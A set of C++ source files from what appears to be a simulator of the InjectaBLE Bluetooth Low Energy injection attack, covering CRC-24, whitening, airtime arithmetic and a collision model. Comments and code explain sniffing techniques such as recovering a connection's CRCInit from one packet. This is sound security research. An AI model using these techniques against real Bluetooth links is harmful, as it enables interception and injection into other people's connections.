    [[nodiscard]] Duration span() const noexcept {
        return any ? last_event - first_event : 0;
    }
    [[nodiscard]] Duration device_airtime(const std::string& device) const;
    [[nodiscard]] Duration channel_airtime(std::uint8_t channel) const;
    /// Airtime of `device` across all channels over the observed span, in
    /// [0, 1] (0 when the span is empty).
    [[nodiscard]] double duty_cycle(const std::string& device) const;
};

class ChannelOccupancySink : public EventSink {
public:
    void on_event(const Event& event) override;
    [[nodiscard]] std::string_view prof_name() const noexcept override {
        return "obs.sink.timeline";
    }

    [[nodiscard]] const OccupancyReport& report() const noexcept { return report_; }

    /// Full Chrome trace-event JSON document ({"traceEvents":[...]}).
    [[nodiscard]] std::string chrome_trace_json() const;
    /// Writes chrome_trace_json() to `path`; false on I/O error.
    bool write_chrome_trace(const std::string& path) const;

    void clear();

private:
    void note_time(TimePoint t) noexcept;
    /// Appends one rendered trace-event JSON object for `tid`.
    void add_complete(int tid, std::string_view name, std::string_view cat, TimePoint start,
                      Duration duration, std::string_view args_json = {});
    void add_instant(int tid, std::string_view name, std::string_view cat, TimePoint time);

    OccupancyReport report_;

    struct InFlight {
        TimePoint start = 0;
        TimePoint end = 0;
    };
    std::map<std::uint8_t, std::vector<InFlight>> in_flight_;

    /// Pre-rendered trace-event objects (event fields are views that die with
    /// the dispatch, so rendering happens inline).
    std::vector<std::string> trace_events_;
    std::set<int> tids_;
};

/// The synthetic row used for phase / IDS instants (above the 0..39 channels).
inline constexpr int kTimelineMarkerRow = 40;

}  // namespace ble::obs
