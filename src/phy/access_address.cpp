#include "phy/access_address.hpp"

#include <bit>

namespace ble::phy {

namespace {
int count_transitions(std::uint32_t v) noexcept {
    // Transitions between adjacent bits of the 32-bit word.
    const std::uint32_t x = v ^ (v >> 1);
    return std::popcount(x & 0x7FFFFFFFu);
}

int max_run_length(std::uint32_t v) noexcept {
    int best = 0;
    int run = 0;
    int prev = -1;
    for (int i = 0; i < 32; ++i) {
        const int bit = static_cast<int>((v >> i) & 1);
        run = (bit == prev) ? run + 1 : 1;
        prev = bit;
        if (run > best) best = run;
    }
    return best;
}
}  // namespace

bool is_valid_access_address(std::uint32_t aa) noexcept {
    if (aa == kAdvertisingAccessAddress) return false;
    if (std::popcount(aa ^ kAdvertisingAccessAddress) <= 1) return false;
    if (max_run_length(aa) > 6) return false;
    const std::uint32_t b0 = aa & 0xFF;
    if (b0 == ((aa >> 8) & 0xFF) && b0 == ((aa >> 16) & 0xFF) && b0 == ((aa >> 24) & 0xFF)) {
        return false;
    }
    if (count_transitions(aa) > 24) return false;
    // At least two transitions within the most significant six bits.
    const std::uint32_t top6 = aa >> 26;
    const std::uint32_t trans = (top6 ^ (top6 >> 1)) & 0x1F;
    if (std::popcount(trans) < 2) return false;
    return true;
}

std::uint32_t random_access_address(Rng& rng) noexcept {
    for (;;) {
        const auto aa = static_cast<std::uint32_t>(rng.next_u64());
        if (is_valid_access_address(aa)) return aa;
    }
}

}  // namespace ble::phy
