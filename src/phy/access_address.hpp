// Access-address rules (Vol 6, Part B, §2.1.2).
//
// Every connection is identified on-air by a 32-bit access address chosen by
// the initiator in CONNECT_REQ. The spec constrains the bit pattern so
// receivers can correlate on it reliably; the InjectaBLE sniffer exploits the
// fact that any valid data frame leaks its connection's AA in the clear.
#pragma once

#include <cstdint>

#include "common/rng.hpp"

namespace ble::phy {

/// AA used by all advertising-channel packets.
constexpr std::uint32_t kAdvertisingAccessAddress = 0x8E89BED6;

/// Checks the spec's validity constraints for a data-channel access address:
/// - not the advertising AA, and differing from it in more than one bit,
/// - no more than six consecutive equal bits,
/// - not all four octets equal,
/// - no more than 24 bit transitions,
/// - at least two transitions in the most significant six bits.
[[nodiscard]] bool is_valid_access_address(std::uint32_t aa) noexcept;

/// Draws a uniformly random *valid* access address.
[[nodiscard]] std::uint32_t random_access_address(Rng& rng) noexcept;

}  // namespace ble::phy
