#include "phy/crc.hpp"

namespace ble::phy {

namespace {
// Taps of x^24 + x^10 + x^9 + x^6 + x^4 + x^3 + x + 1 in the shifted-right
// LFSR formulation (ubertooth/BTLEJack-compatible, validated against
// over-the-air captures by those projects).
constexpr std::uint32_t kLfsrMask = 0x5A6000;
constexpr std::uint32_t k24Bits = 0xFFFFFF;
}  // namespace

std::uint32_t crc24(BytesView pdu, std::uint32_t init) noexcept {
    std::uint32_t state = init & k24Bits;
    for (std::uint8_t byte : pdu) {
        std::uint8_t cur = byte;
        for (int bit = 0; bit < 8; ++bit) {
            const std::uint32_t next = (state ^ cur) & 1;
            cur >>= 1;
            state >>= 1;
            if (next != 0) {
                state |= 1u << 23;
                state ^= kLfsrMask;
            }
        }
    }
    return state;
}

std::uint32_t crc24_reverse(BytesView pdu, std::uint32_t crc) noexcept {
    // Exact inverse of one forward bit-step:
    //   forward: next = (state ^ in) & 1; state >>= 1;
    //            if next { state |= 1<<23; state ^= kLfsrMask; }
    // kLfsrMask bit 23 is 0, so after a forward step bit 23 == next.
    std::uint32_t state = crc & k24Bits;
    for (std::size_t i = pdu.size(); i-- > 0;) {
        std::uint8_t cur = pdu[i];
        for (int bit = 7; bit >= 0; --bit) {
            const std::uint32_t next = (state >> 23) & 1;
            if (next != 0) {
                state ^= kLfsrMask;
                state &= ~(1u << 23);
            }
            const std::uint32_t in = (static_cast<std::uint32_t>(cur) >> bit) & 1;
            state = ((state << 1) & k24Bits) | (next ^ in);
        }
    }
    return state;
}

}  // namespace ble::phy
