// BLE CRC-24 (Vol 6, Part B, §3.1.1): polynomial
//   x^24 + x^10 + x^9 + x^6 + x^4 + x^3 + x + 1
// seeded with CRCInit (0x555555 on advertising channels; the value from
// CONNECT_REQ on data channels), processing PDU bits LSB-first.
//
// `crc24_reverse` runs the LFSR *backwards* from an observed CRC through the
// PDU: this is Mike Ryan's trick for recovering the CRCInit of an already
// established connection from a single sniffed packet, which the InjectaBLE
// sniffer uses when it missed the CONNECT_REQ.
#pragma once

#include <cstdint>

#include "common/bytes.hpp"

namespace ble::phy {

/// 24-bit CRC over `pdu`, starting from `init` (24-bit state).
[[nodiscard]] std::uint32_t crc24(BytesView pdu, std::uint32_t init) noexcept;

/// Inverse: the `init` value such that crc24(pdu, init) == crc.
[[nodiscard]] std::uint32_t crc24_reverse(BytesView pdu, std::uint32_t crc) noexcept;

/// CRCInit used on advertising channels.
constexpr std::uint32_t kAdvertisingCrcInit = 0x555555;

}  // namespace ble::phy
