#include "phy/frame.hpp"

#include "phy/crc.hpp"
#include "phy/spec.hpp"

namespace ble::phy {

bool RawFrame::crc_ok(std::uint32_t crc_init) const noexcept {
    return crc24(pdu, crc_init) == crc;
}

sim::AirFrame make_air_frame(std::uint32_t access_address, BytesView pdu,
                             std::uint32_t crc_init, Mode mode) {
    ByteWriter w(kAccessAddressBytes + pdu.size() + kCrcBytes);
    w.write_u32(access_address);
    w.write_bytes(pdu);
    w.write_u24(crc24(pdu, crc_init));

    sim::AirFrame frame;
    frame.bytes = w.take();
    frame.preamble_time = preamble_time(mode);
    frame.byte_time = byte_time(mode);
    frame.sync_bytes = kAccessAddressBytes;  // a hit there kills sync
    return frame;
}

std::optional<RawFrame> split_frame(BytesView bytes) noexcept {
    // AA + PDU header + payload (len from the header's second byte) + CRC.
    if (bytes.size() < kAccessAddressBytes + kPduHeaderBytes + kCrcBytes)
        return std::nullopt;
    ByteReader r(bytes);
    RawFrame out;
    out.access_address = *r.read_u32();
    const std::size_t pdu_len = kPduHeaderBytes + bytes[kAccessAddressBytes + 1];
    if (r.remaining() != pdu_len + kCrcBytes) return std::nullopt;
    out.pdu = *r.read_bytes(pdu_len);
    out.crc = *r.read_u24();
    return out;
}

}  // namespace ble::phy
