// Serialization between logical Link-Layer frames and the simulation
// medium's opaque AirFrame (Table I of the paper: preamble | access address |
// PDU | CRC).
#pragma once

#include <cstdint>
#include <optional>

#include "common/bytes.hpp"
#include "phy/mode.hpp"
#include "sim/medium.hpp"

namespace ble::phy {

/// A frame as it appears after sync: access address + PDU + received CRC.
struct RawFrame {
    std::uint32_t access_address = 0;
    Bytes pdu;
    std::uint32_t crc = 0;

    /// True if `crc` matches the CRC recomputed over `pdu` with `crc_init`.
    [[nodiscard]] bool crc_ok(std::uint32_t crc_init) const noexcept;
};

/// Builds an on-air frame: computes the CRC over the PDU with `crc_init` and
/// lays out AA | PDU | CRC with the PHY mode's timing.
[[nodiscard]] sim::AirFrame make_air_frame(std::uint32_t access_address, BytesView pdu,
                                           std::uint32_t crc_init, Mode mode = Mode::kLe1M);

/// Splits received bytes back into AA | PDU | CRC using the length field in
/// the PDU header (byte 1). Returns nullopt for truncated/inconsistent
/// buffers (e.g. a length byte corrupted by a collision).
[[nodiscard]] std::optional<RawFrame> split_frame(BytesView bytes) noexcept;

}  // namespace ble::phy
