#include "phy/mode.hpp"

namespace ble::phy {

const char* mode_name(Mode mode) noexcept {
    switch (mode) {
        case Mode::kLe1M: return "LE 1M";
        case Mode::kLe2M: return "LE 2M";
        case Mode::kCodedS2: return "LE Coded S=2";
        case Mode::kCodedS8: return "LE Coded S=8";
    }
    return "?";
}

Duration byte_time(Mode mode) noexcept {
    switch (mode) {
        case Mode::kLe1M: return 8_us;
        case Mode::kLe2M: return 4_us;
        case Mode::kCodedS2: return 16_us;   // 2 µs/bit
        case Mode::kCodedS8: return 64_us;   // 8 µs/bit
    }
    return 8_us;
}

Duration preamble_time(Mode mode) noexcept {
    switch (mode) {
        case Mode::kLe1M: return 8_us;    // 1 byte
        case Mode::kLe2M: return 8_us;    // 2 bytes at 4 µs
        case Mode::kCodedS2:
        case Mode::kCodedS8:
            // 80 µs preamble + (256 µs AA + 16 µs CI + 24 µs TERM1 at S=8)
            // minus the AA accounted per-byte below; keep the S=8 header —
            // the FEC1 block is always S=8 regardless of the payload coding.
            return 80_us + 16_us + 24_us + (256_us - 4 * byte_time(mode));
    }
    return 8_us;
}

Duration frame_duration(Mode mode, std::size_t pdu_len) noexcept {
    // access address (4) + PDU + CRC (3), plus TERM2 (3 µs/bit * S) for coded.
    const auto payload_bytes = static_cast<Duration>(4 + pdu_len + 3);
    Duration d = preamble_time(mode) + payload_bytes * byte_time(mode);
    if (mode == Mode::kCodedS2) d += 6_us;
    if (mode == Mode::kCodedS8) d += 24_us;
    return d;
}

}  // namespace ble::phy
