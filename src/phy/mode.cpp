#include "phy/mode.hpp"

#include "phy/spec.hpp"

namespace ble::phy {

const char* mode_name(Mode mode) noexcept {
    switch (mode) {
        case Mode::kLe1M: return "LE 1M";
        case Mode::kLe2M: return "LE 2M";
        case Mode::kCodedS2: return "LE Coded S=2";
        case Mode::kCodedS8: return "LE Coded S=8";
    }
    return "?";
}

Duration byte_time(Mode mode) noexcept {
    switch (mode) {
        case Mode::kLe1M: return kByteAirtimeLe1M;
        case Mode::kLe2M: return kByteAirtimeLe2M;
        case Mode::kCodedS2: return kByteAirtimeCodedS2;
        case Mode::kCodedS8: return kByteAirtimeCodedS8;
    }
    return kByteAirtimeLe1M;
}

Duration preamble_time(Mode mode) noexcept {
    switch (mode) {
        case Mode::kLe1M:
        case Mode::kLe2M:
            return kPreambleAirtimeUncoded;
        case Mode::kCodedS2:
        case Mode::kCodedS8:
            // Preamble plus the FEC1 header fields (CI and TERM1), and the
            // slice of the always-S=8 access-address airtime that the
            // per-byte arithmetic below does not account for — the FEC1
            // block keeps S=8 coding regardless of the payload coding.
            return kCodedPreambleAirtime + kCodedCiAirtime + kCodedTerm1Airtime +
                   (kCodedAccessAddressAirtime -
                    static_cast<Duration>(kAccessAddressBytes) * byte_time(mode));
    }
    return kPreambleAirtimeUncoded;
}

Duration frame_duration(Mode mode, std::size_t pdu_len) noexcept {
    // access address + PDU + CRC, plus TERM2 for the coded modes.
    const auto payload_bytes =
        static_cast<Duration>(kAccessAddressBytes + pdu_len + kCrcBytes);
    Duration d = preamble_time(mode) + payload_bytes * byte_time(mode);
    if (mode == Mode::kCodedS2) d += kCodedTerm2AirtimeS2;
    if (mode == Mode::kCodedS8) d += kCodedTerm2AirtimeS8;
    return d;
}

}  // namespace ble::phy
