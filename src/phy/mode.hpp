// Physical-layer modes and airtime arithmetic (paper §III-A).
//
// All of the paper's experiments run on LE 1M (1 µs/bit, 8 µs/byte — the
// "22 bytes over the air = 176 µs" arithmetic in §VII-A).  LE 2M and the two
// coded modes are implemented for completeness: the attack applies to all of
// them since window widening is PHY-independent.
#pragma once

#include <cstddef>

#include "common/time.hpp"

namespace ble::phy {

enum class Mode {
    kLe1M,       ///< 1 Mbit/s uncoded
    kLe2M,       ///< 2 Mbit/s uncoded
    kCodedS2,    ///< 500 kbit/s, FEC S=2
    kCodedS8,    ///< 125 kbit/s, FEC S=8
};

[[nodiscard]] const char* mode_name(Mode mode) noexcept;

/// Airtime of one PDU byte.
[[nodiscard]] Duration byte_time(Mode mode) noexcept;

/// Airtime of the preamble (for coded modes this folds in the fixed coded
/// overhead: FEC1 access address at S=8, CI and TERM1 fields).
[[nodiscard]] Duration preamble_time(Mode mode) noexcept;

/// Total frame airtime for a PDU of `pdu_len` bytes
/// (preamble + access address + PDU + CRC [+ TERM2 for coded]).
[[nodiscard]] Duration frame_duration(Mode mode, std::size_t pdu_len) noexcept;

}  // namespace ble::phy
