// Spec-anchored PHY framing & timing constants, each tied to the Bluetooth
// Core Specification (Vol 6, Part B) — or to the paper's arithmetic built on
// it — by a static_assert.  These are the *named* homes for every number the
// S1 lint rule bans as a bare literal in src/phy and src/link: frame layout,
// per-mode airtimes, and the timing units the µs-resolution injection race
// is computed from.  A constant that drifts from its spec value breaks the
// build here, not a trial three machines away.
#pragma once

#include <cstddef>
#include <cstdint>

#include "common/time.hpp"
#include "phy/access_address.hpp"
#include "phy/crc.hpp"

namespace ble::phy {

// --- Frame layout (Vol 6 Part B §2.1; Table I of the paper) ---

/// Preamble length for the uncoded PHYs, in *symbol bytes* of that PHY
/// (LE 1M: 1 byte; LE 2M transmits 2 bytes in the same 8 µs).
constexpr std::size_t kPreambleBytesLe1M = 1;
constexpr std::size_t kPreambleBytesLe2M = 2;
/// The 32-bit access address every receiver correlates on.
constexpr std::size_t kAccessAddressBytes = 4;
/// Data/advertising PDU header: 1 flags byte + 1 length byte.
constexpr std::size_t kPduHeaderBytes = 2;
/// CRC-24 trailer.
constexpr std::size_t kCrcBytes = 3;

static_assert(kAccessAddressBytes == 4, "Vol 6 Part B 2.1.2: 32-bit access address");
static_assert(kPduHeaderBytes == 2, "Vol 6 Part B 2.3/2.4: 16-bit PDU header");
static_assert(kCrcBytes == 3, "Vol 6 Part B 2.1.4: 24-bit CRC");
static_assert(kAdvertisingAccessAddress == 0x8E89BED6,
              "Vol 6 Part B 2.1.2: advertising access address");
static_assert(kAdvertisingCrcInit == 0x555555,
              "Vol 6 Part B 3.1.1: advertising-channel CRCInit");

// --- Airtime (Vol 6 Part B §2.1: symbol rates; paper §III-A / §VII-A) ---

/// LE 1M: 1 Mb/s -> 1 µs per bit -> 8 µs per byte.  The paper's airtime
/// arithmetic ("22 bytes over the air = 176 µs", §VII-A) and the medium's
/// byte-granular capture model are both built on this constant.
constexpr Duration kByteAirtimeLe1M = 8_us;
/// LE 2M: 2 Mb/s -> 4 µs per byte.
constexpr Duration kByteAirtimeLe2M = 4_us;
/// LE Coded S=2: 500 kb/s payload coding -> 16 µs per byte.
constexpr Duration kByteAirtimeCodedS2 = 16_us;
/// LE Coded S=8: 125 kb/s payload coding -> 64 µs per byte.
constexpr Duration kByteAirtimeCodedS8 = 64_us;

static_assert(kByteAirtimeLe1M == 8000_ns, "LE 1M: 1 us/bit, 8 bits/byte");
static_assert(kByteAirtimeLe2M == 4000_ns, "LE 2M: 0.5 us/bit");
static_assert(kByteAirtimeCodedS2 == 2 * kByteAirtimeLe1M, "S=2 halves the 1M rate twice");
static_assert(kByteAirtimeCodedS8 == 8 * kByteAirtimeLe1M, "S=8 is 1/8 of the 1M rate");

/// Preamble airtime of the uncoded PHYs: 8 µs on both (1 byte at 1M, 2 bytes
/// at 2M).
constexpr Duration kPreambleAirtimeUncoded = 8_us;
static_assert(kPreambleAirtimeUncoded ==
                  static_cast<Duration>(kPreambleBytesLe1M) * kByteAirtimeLe1M,
              "LE 1M preamble: 1 byte at 8 us");
static_assert(kPreambleAirtimeUncoded ==
                  static_cast<Duration>(kPreambleBytesLe2M) * kByteAirtimeLe2M,
              "LE 2M preamble: 2 bytes at 4 us");

// Coded-PHY fixed overhead (Vol 6 Part B §2.2): the FEC1 block (access
// address, CI, TERM1) is always coded at S=8 regardless of the payload
// coding, after an 80 µs preamble.
constexpr Duration kCodedPreambleAirtime = 80_us;
constexpr Duration kCodedAccessAddressAirtime = 256_us;  ///< 32 bits at S=8
constexpr Duration kCodedCiAirtime = 16_us;              ///< 2 bits at S=8
constexpr Duration kCodedTerm1Airtime = 24_us;           ///< 3 bits at S=8
/// TERM2 closes the FEC2 block: 3 bits at the payload coding.
constexpr Duration kCodedTerm2AirtimeS2 = 6_us;
constexpr Duration kCodedTerm2AirtimeS8 = 24_us;

static_assert(kCodedAccessAddressAirtime ==
                  static_cast<Duration>(kAccessAddressBytes) * kByteAirtimeCodedS8,
              "FEC1 access address is 4 bytes at S=8");
static_assert(kCodedTerm1Airtime == 3 * 8_us, "TERM1: 3 bits at S=8 (8 us/bit)");
static_assert(kCodedTerm2AirtimeS2 == 3 * 2_us, "TERM2: 3 bits at S=2 (2 us/bit)");
static_assert(kCodedTerm2AirtimeS8 == 3 * 8_us, "TERM2: 3 bits at S=8 (8 us/bit)");

// --- Link-layer timing units (also named in common/time.hpp) ---

static_assert(kTifs == 150_us, "Vol 6 Part B 4.1.1: T_IFS = 150 us");
static_assert(kUnit1250us == 1250_us, "Vol 6 Part B 4.5.x: 1.25 ms unit");
static_assert(kWindowWideningConstant == 32_us,
              "Vol 6 Part B 4.5.7 / paper Eq. 4: constant widening term");
static_assert(kTransmitWindowDelayUncoded == 1250_us,
              "Vol 6 Part B 4.5.3: transmitWindowDelay, uncoded PHYs");

/// The paper's §VII-A reference frame: a 12-byte LL payload gives
/// preamble + AA + header + payload + CRC = 22 byte-times = 176 µs on LE 1M.
static_assert(kPreambleAirtimeUncoded +
                      static_cast<Duration>(kAccessAddressBytes + kPduHeaderBytes + 12 +
                                            kCrcBytes) *
                          kByteAirtimeLe1M ==
                  176_us,
              "paper SVII-A: 22 bytes over the air = 176 us on LE 1M");

}  // namespace ble::phy
