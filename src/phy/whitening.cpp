#include "phy/whitening.hpp"

namespace ble::phy {

namespace {
std::uint8_t swap_bits(std::uint8_t v) noexcept {
    v = static_cast<std::uint8_t>(((v & 0xF0) >> 4) | ((v & 0x0F) << 4));
    v = static_cast<std::uint8_t>(((v & 0xCC) >> 2) | ((v & 0x33) << 2));
    v = static_cast<std::uint8_t>(((v & 0xAA) >> 1) | ((v & 0x55) << 1));
    return v;
}
}  // namespace

void whiten(std::uint8_t channel, Bytes& data) noexcept {
    // Register layout after bit-swapping the channel index: position 0 of the
    // spec's register lands in the MSB, which is where the output tap sits.
    std::uint8_t lfsr = static_cast<std::uint8_t>(swap_bits(channel) | 2);
    for (auto& byte : data) {
        std::uint8_t d = byte;
        for (std::uint8_t bit = 1; bit != 0; bit = static_cast<std::uint8_t>(bit << 1)) {
            if (lfsr & 0x80) {
                lfsr ^= 0x11;  // feedback taps of x^7 + x^4 + 1
                d ^= bit;
            }
            lfsr = static_cast<std::uint8_t>(lfsr << 1);
        }
        byte = d;
    }
}

Bytes whitened(std::uint8_t channel, BytesView data) {
    Bytes out(data.begin(), data.end());
    whiten(channel, out);
    return out;
}

}  // namespace ble::phy
