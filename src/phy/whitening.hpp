// BLE data whitening (Vol 6, Part B, §3.2): a 7-bit LFSR (x^7 + x^4 + 1)
// seeded from the channel index scrambles PDU+CRC bits to avoid long runs.
// Whitening is an involution (whiten == dewhiten), so both directions share
// one function.
//
// The simulation medium carries *unwhitened* logical bytes (whitening is
// bijective per channel, so it cannot change collision outcomes), but the
// implementation is kept bit-exact because the sniffer's CRCInit recovery and
// the dongle's frame dumps operate on the de-whitened stream, and tests pin
// the generated sequences.
#pragma once

#include <cstdint>

#include "common/bytes.hpp"

namespace ble::phy {

/// XORs the whitening sequence for `channel` (0..39) into `data`, in place.
void whiten(std::uint8_t channel, Bytes& data) noexcept;

/// Convenience copy version.
[[nodiscard]] Bytes whitened(std::uint8_t channel, BytesView data);

}  // namespace ble::phy
