#include "sim/capture.hpp"

#include <algorithm>
#include <cmath>

namespace ble::sim {

double CaptureModel::byte_corruption_prob(double sir_db, double phase_quality) const noexcept {
    const double phase_shift = (std::clamp(phase_quality, 0.0, 1.0) - 0.5) * 2.0 *
                               params_.phase_spread_db;
    const double effective = sir_db + phase_shift;
    const double survival = 1.0 / (1.0 + std::exp(-(effective - params_.mid_sir_db) /
                                                  params_.slope_db));
    return 1.0 - survival;
}

}  // namespace ble::sim
