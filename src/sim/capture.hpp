// Collision / capture model for overlapping GFSK frames.
//
// Paper §V-D, outcome (b): an injected frame that overlaps the legitimate one
// may still be demodulated intact "when the power of the injected signal is by
// far superior to the power of the legitimate signal … [or] depending on the
// phase difference between the injected and legitimate signals".
//
// We model exactly that: each byte that overlaps an interferer is corrupted
// with a probability driven by the signal-to-interference ratio (SIR) shifted
// by a per-frame "phase quality" lottery.  Above `mid_sir_db + a few dB` the
// capture effect wins (GFSK receivers track the stronger signal); far below,
// overlapped bytes are almost surely destroyed.
#pragma once

namespace ble::sim {

struct CaptureParams {
    /// SIR (dB) at which an overlapped byte survives with probability 0.5
    /// (before the phase shift). Negative: GFSK capture tolerates moderately
    /// stronger interferers thanks to FM capture effect.
    double mid_sir_db = -12.0;
    /// Logistic slope (dB): smaller = sharper capture threshold.
    double slope_db = 5.0;
    /// Amplitude of the per-frame phase lottery, expressed as an equivalent
    /// SIR shift in dB. A lucky relative carrier phase can rescue a collision
    /// (paper §V-D); an unlucky one dooms it.
    double phase_spread_db = 3.0;
};

class CaptureModel {
public:
    explicit CaptureModel(CaptureParams params = {}) noexcept : params_(params) {}

    /// Probability that a single byte overlapped by an interferer at the given
    /// SIR is corrupted. `phase_quality` in [0,1] is drawn once per
    /// frame/interferer pair and shifts the effective SIR by
    /// ±phase_spread_db.
    [[nodiscard]] double byte_corruption_prob(double sir_db, double phase_quality) const noexcept;

    [[nodiscard]] const CaptureParams& params() const noexcept { return params_; }

private:
    CaptureParams params_;
};

}  // namespace ble::sim
