#include "sim/medium.hpp"

#include <algorithm>
#include <cmath>

#include "common/log.hpp"
#include "obs/prof/profiler.hpp"
#include "sim/radio_device.hpp"

namespace ble::sim {

namespace {
double dbm_to_mw(double dbm) noexcept { return std::pow(10.0, dbm / 10.0); }
double mw_to_dbm(double mw) noexcept { return 10.0 * std::log10(mw); }
}  // namespace

RadioMedium::RadioMedium(Scheduler& scheduler, Rng rng, PathLossModel path_loss,
                         CaptureModel capture, MediumParams params)
    : scheduler_(scheduler),
      rng_(rng),
      path_loss_(std::move(path_loss)),
      capture_(capture),
      params_(params) {}

void RadioMedium::attach(RadioDevice& device) {
    devices_.push_back(&device);
    device.listen_state_ = ListenState{};
}

void RadioMedium::detach(RadioDevice& device) noexcept {
    std::erase(devices_, &device);
    // Any in-flight transmission keeps a sender pointer only for exclusion
    // checks; clear it so a device destroyed mid-frame cannot dangle.
    for (auto& [id, tx] : active_) {
        if (tx.sender == &device) tx.sender = nullptr;
    }
}

void RadioMedium::start_listening(RadioDevice& device, Channel channel) {
    ListenState& state = device.listen_state_;
    state.channel = channel;
    state.active = true;
    state.locked_tx = 0;  // switching channels drops any sync
}

bool RadioMedium::is_receiving(const RadioDevice& device) const noexcept {
    const ListenState& state = device.listen_state_;
    return state.active && state.locked_tx != 0;
}

void RadioMedium::stop_listening(RadioDevice& device) noexcept {
    device.listen_state_.active = false;
    device.listen_state_.locked_tx = 0;
}

double RadioMedium::rx_power_dbm(Transmission& tx, const RadioDevice& receiver) {
    auto it = tx.rx_power_dbm.find(&receiver);
    if (it != tx.rx_power_dbm.end()) return it->second;
    // One fading draw per (frame, receiver): channel hopping decorrelates
    // consecutive frames, so each frame sees a fresh fade.
    const double loss =
        tx.sender == nullptr
            ? 200.0
            : path_loss_.sample_loss_db(tx.sender->position(), receiver.position(), rng_);
    const double power = (tx.sender ? tx.sender->tx_power_dbm() : 0.0) - loss;
    tx.rx_power_dbm.emplace(&receiver, power);
    return power;
}

std::uint64_t RadioMedium::transmit(RadioDevice& device, Channel channel, AirFrame frame) {
    static thread_local obs::prof::SpanSite prof_site{"medium.transmit"};
    obs::prof::Span prof_span(prof_site);
    prof_span.add_sim(frame.duration());  // claim the frame's airtime
    // Half-duplex: transmitting suspends any reception in progress.
    stop_listening(device);
    device.transmitting_ = true;

    const std::uint64_t id = next_tx_id_++;
    Transmission tx;
    tx.id = id;
    tx.sender = &device;
    tx.channel = channel;
    tx.start = scheduler_.now();
    tx.end = tx.start + frame.duration();
    tx.frame = std::move(frame);

    auto [it, inserted] = active_.emplace(id, std::move(tx));
    Transmission& stored = it->second;

    if (bus_.active()) {
        obs::TxStart event;
        event.time = stored.start;
        event.tx_id = id;
        event.channel = channel;
        event.sender = device.name();
        event.bytes = stored.frame.bytes;
        event.duration = stored.frame.duration();
        event.sender_device = &device;
        event.frame = &stored.frame;
        bus_.emit(event);
    }

    // Idle listeners on this channel lock onto the new frame if it is loud
    // enough. Listeners already locked on an earlier frame, or that started
    // listening mid-frame, cannot sync (no preamble for them) — the frame
    // only interferes.
    for (RadioDevice* d : devices_) {
        if (d == &device) continue;
        ListenState& state = d->listen_state_;
        if (!state.active || state.channel != channel || state.locked_tx != 0) continue;
        if (d->transmitting()) continue;
        if (rx_power_dbm(stored, *d) >= params_.sensitivity_dbm) {
            state.locked_tx = id;
        }
    }

    // The finish event must fire even if the sender detaches mid-frame — the
    // medium outlives every frame, and finish_transmission tolerates a gone
    // sender, so there is never a reason to cancel it.
    (void)scheduler_.schedule_at(  // injectable-lint: allow(D4) -- see above
        stored.end, [this, id] { finish_transmission(id); });
    return id;
}

void RadioMedium::add_tx_observer(TxObserver observer) {
    bus_.subscribe([observer = std::move(observer)](const obs::Event& event) {
        const auto* tx = std::get_if<obs::TxStart>(&event);
        if (tx != nullptr && tx->sender_device != nullptr && tx->frame != nullptr) {
            observer(*tx->sender_device, tx->channel, tx->time, *tx->frame);
        }
    });
}

void RadioMedium::deliver(Transmission& tx, RadioDevice& receiver) {
    static thread_local obs::prof::SpanSite prof_site{"medium.deliver"};
    obs::prof::Span prof_span(prof_site);
    const double signal_dbm = rx_power_dbm(tx, receiver);
    const double noise_mw = dbm_to_mw(params_.noise_floor_dbm);

    // Collect interferers overlapping this frame at this receiver. The
    // carrier-phase alignment between two unsynchronised transmitters rotates
    // with their frequency offset (paper §V-D: survival "depends on the phase
    // difference between the injected and legitimate signals"), with a
    // coherence time on the order of a byte — so the phase lottery is drawn
    // *per byte* below, which is what makes longer overlaps deadlier.
    struct Interferer {
        const Transmission* tx;
        double power_mw;
    };
    std::vector<Interferer> interferers;
    for (auto& [other_id, other] : active_) {
        if (other_id == tx.id || other.channel != tx.channel) continue;
        if (other.start >= tx.end || other.end <= tx.start) continue;
        if (other.sender == &receiver) continue;  // own TX handled by half-duplex
        interferers.push_back(
            Interferer{&other, dbm_to_mw(rx_power_dbm(other, receiver))});
    }

    Bytes bytes = tx.frame.bytes;
    bool corrupted = false;
    int corrupted_bytes = 0;
    int sync_bit_errors = 0;
    for (std::size_t i = 0; i < bytes.size(); ++i) {
        const TimePoint byte_start =
            tx.start + tx.frame.preamble_time + static_cast<Duration>(i) * tx.frame.byte_time;
        const TimePoint byte_end = byte_start + tx.frame.byte_time;

        double interference_mw = noise_mw;
        double phase = 0.5;  // neutral when only noise is present
        for (const auto& intf : interferers) {
            if (intf.tx->start < byte_end && intf.tx->end > byte_start) {
                interference_mw += intf.power_mw;
                phase = rng_.next_double();  // per-byte carrier-phase lottery
            }
        }
        const double sir_db = signal_dbm - mw_to_dbm(interference_mw);
        const double p_corrupt = capture_.byte_corruption_prob(sir_db, phase);
        if (rng_.chance(p_corrupt)) {
            // Flip a random bit: the CRC then fails naturally downstream.
            bytes[i] ^= static_cast<std::uint8_t>(1u << rng_.next_below(8));
            corrupted = true;
            ++corrupted_bytes;
            if (i < tx.frame.sync_bytes) ++sync_bit_errors;
        }
    }

    receiver.listen_state_.locked_tx = 0;  // receiver returns to idle listening

    const bool lost_sync = sync_bit_errors > params_.max_sync_bit_errors;
    if (bus_.active()) {
        obs::RxDecision decision;
        decision.time = tx.end;
        decision.tx_id = tx.id;
        decision.channel = tx.channel;
        decision.receiver = receiver.name();
        decision.verdict = lost_sync     ? obs::RxVerdict::kLostSync
                           : corrupted   ? obs::RxVerdict::kDeliveredCorrupted
                                         : obs::RxVerdict::kDelivered;
        decision.rssi_dbm = signal_dbm;
        decision.corrupted_bytes = corrupted_bytes;
        decision.sync_bit_errors = sync_bit_errors;
        bus_.emit(decision);
    }
    if (lost_sync) {
        // The correlator never matched: nothing is delivered, exactly like a
        // real radio that misses the access address.
        BLE_LOG_TRACE("medium: ", receiver.name(), " lost sync on tx ", tx.id);
        return;
    }
    // A tolerated near-miss correlation outputs the *matched* sync word.
    for (std::size_t i = 0; i < tx.frame.sync_bytes && i < bytes.size(); ++i) {
        bytes[i] = tx.frame.bytes[i];
    }

    RxFrame rx;
    rx.bytes = std::move(bytes);
    rx.start = tx.start;
    rx.end = tx.end;
    rx.channel = tx.channel;
    rx.rssi_dbm = signal_dbm;
    rx.corrupted_by_medium = corrupted;
    rx.transmission_id = tx.id;
    receiver.on_rx(rx);
}

void RadioMedium::finish_transmission(std::uint64_t tx_id) {
    // Deliberately unspanned: trivial bookkeeping whose time reads naturally
